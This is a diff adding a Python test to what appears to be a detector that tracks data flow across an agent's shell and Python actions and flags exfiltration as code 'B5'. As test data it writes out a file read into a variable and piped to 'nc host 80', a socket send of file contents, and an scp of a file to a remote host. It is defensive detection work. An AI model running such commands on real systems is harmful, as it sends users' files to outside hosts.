@@ -122,3 +122,20 @@ def test_a_connection_that_fails_before_the_file_is_opened_is_told_by_its_code()
     scp = [fork(2, 3, 4), started(3, 4, "ssh", "u@host"), connected(4, 4)]
     copies = started(1, 3, "scp", FILE, "u@host:")
     assert code_found("", SHELL, fork(0, 2, 3), copies, *scp) == ["B5"]
+
+
+def test_a_variable_of_a_session_carries_it_into_a_later_action() -> None:
+    def remembered(first: str, second: str, tool: str = "bash") -> list[str]:
+        codes = {("0", 1): first, ("0", 2): second}
+        tools = {("0", 1): tool, ("0", 2): tool}
+        carriers = _Carriers({("0", FILE): {"B5"}}, codes, tools)
+        reads = [SHELL, fork(1, 2, 3), opened(2, 3), ended(3, 3)]
+        sends = in_action(2, fork(4, 2, 4), started(5, 4, "nc", "host", "80"), connected(6, 4))
+        return [one.behaviour for fact in (*reads, *sends) for one in carriers.take(fact)]
+
+    assert remembered(f"x=$(cat {FILE})", 'echo "$x" | nc host 80') == ["B5"]
+    assert not remembered(f"x=$(wc -l < {FILE})", 'echo "$x" | nc host 80')
+    assert not remembered(f"cat {FILE}", "nc host 80")
+    read = f"rows = open({FILE!r}).read()"
+    assert remembered(read, "socket.create_connection(a).send(rows)", "python") == ["B5"]
+    assert not remembered(read, "socket.create_connection(a).send(str(len(rows)))", "python")
